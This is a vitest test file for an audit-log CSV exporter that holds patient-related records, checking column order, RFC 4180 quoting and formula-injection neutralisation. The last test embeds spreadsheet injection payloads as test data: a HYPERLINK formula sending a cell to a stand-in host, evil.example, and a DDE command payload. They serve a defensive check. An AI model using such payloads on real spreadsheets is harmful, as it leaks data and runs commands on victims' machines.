import { describe, expect, it } from 'vitest';
import { AUDIT_CSV_HEADER, auditCsvRow } from '../../src/core/audit/csv.js';
import type { AuditRecord } from '../../src/core/audit/event.js';

function record(overrides: Partial<AuditRecord> = {}): AuditRecord {
  return {
    seq: 7n,
    chainSeq: 5n,
    id: 'c0a80101-0000-4000-8000-000000000007',
    at: new Date('2026-01-31T08:00:00.000Z'),
    workspaceId: '9a8b7c6d-5e4f-4321-a0b1-c2d3e4f5a6b7',
    actorType: 'user',
    actorId: 'U024BE7LH',
    action: 'asset.viewed',
    outcome: 'success',
    reason: null,
    patientId: '0b4c3a52-6f0e-4f63-9d0b-2a1e5d7c9f10',
    assetId: null,
    consultId: null,
    sourceIp: '10.0.0.7',
    requestId: 'req-1',
    details: { frames: 3 },
    prevHash: 'a'.repeat(64),
    hash: 'b'.repeat(64),
    ...overrides,
  };
}

/** RFC 4180 fields of one row (no line breaks inside in these tests). */
function fields(row: string): string[] {
  const out: string[] = [];
  const re = /(?:^|,)("(?:[^"]|"")*"|[^,]*)/g;
  for (const m of row.matchAll(re)) {
    const f = m[1] ?? '';
    out.push(f.startsWith('"') ? f.slice(1, -1).replaceAll('""', '"') : f);
  }
  return out;
}

describe('audit CSV', () => {
  it('has a header naming every column in order', () => {
    expect(AUDIT_CSV_HEADER).toBe(
      'seq,id,at,workspaceId,actorType,actorId,action,outcome,reason,patientId,assetId,consultId,sourceIp,requestId,details,prevHash,hash,chainSeq',
    );
  });

  it('writes one row per record, nulls empty, details as JSON, quoted by RFC 4180', () => {
    const row = auditCsvRow(record());
    expect(row).toBe(
      `7,c0a80101-0000-4000-8000-000000000007,2026-01-31T08:00:00.000Z,9a8b7c6d-5e4f-4321-a0b1-c2d3e4f5a6b7,user,U024BE7LH,asset.viewed,success,,` +
        `0b4c3a52-6f0e-4f63-9d0b-2a1e5d7c9f10,,,10.0.0.7,req-1,"{""frames"":3}",${'a'.repeat(64)},${'b'.repeat(64)},5`,
    );
    expect(fields(row)).toHaveLength(18);
    const quoted = auditCsvRow(record({ reason: 'said "urgent", then left\r\nearly' }));
    expect(quoted).toContain('"said ""urgent"", then left\r\nearly"');
  });

  it('neutralises spreadsheet formulas with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const reason = `${start}HYPERLINK("http://evil.example/?"&A1)`;
      const cells = fields(auditCsvRow(record({ reason, actorId: `${start}cmd|' /C calc'!A0` })));
      expect(cells[8]).toBe(`'${reason}`);
      expect(cells[5]).toBe(`'${start}cmd|' /C calc'!A0`);
    }
    // Ordinary values are left as they are.
    expect(fields(auditCsvRow(record({ reason: 'follow-up - wound check' })))[8]).toBe('follow-up - wound check');
  });
});
